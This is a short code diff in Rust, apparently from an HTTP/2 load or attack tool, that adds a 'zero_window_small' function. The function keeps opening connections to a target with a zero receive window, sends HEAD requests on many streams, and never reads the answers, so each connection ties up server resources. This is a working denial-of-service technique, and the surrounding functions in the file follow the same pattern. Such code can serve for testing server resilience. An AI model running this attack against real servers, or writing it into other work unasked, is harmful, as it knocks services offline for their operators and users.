@@ -191,6 +191,24 @@ pub fn zero_window(attack: &Attack<'_>) {
     });
 }
 
+/// Asks for little on every stream of many connections, and takes no byte of an answer.
+pub fn zero_window_small(attack: &Attack<'_>) {
+    let mut open = Vec::new();
+    while attack.goes_on() {
+        if open.len() < CONNECTIONS
+            && let Ok(mut connection) = Connection::open(attack.target, 0)
+        {
+            let asked = streams()
+                .take(STREAMS as usize)
+                .try_for_each(|stream| connection.head(stream, END_STREAM, HEALTH));
+            if asked.is_ok() {
+                open.push(connection);
+            }
+        }
+        std::thread::sleep(Duration::from_millis(10));
+    }
+}
+
 fn take_no_answers(attack: &Attack<'_>, body: &[u8]) -> Result<()> {
     let mut connection = Connection::open(attack.target, 0)?;
     for stream in streams().take(STREAMS as usize) {
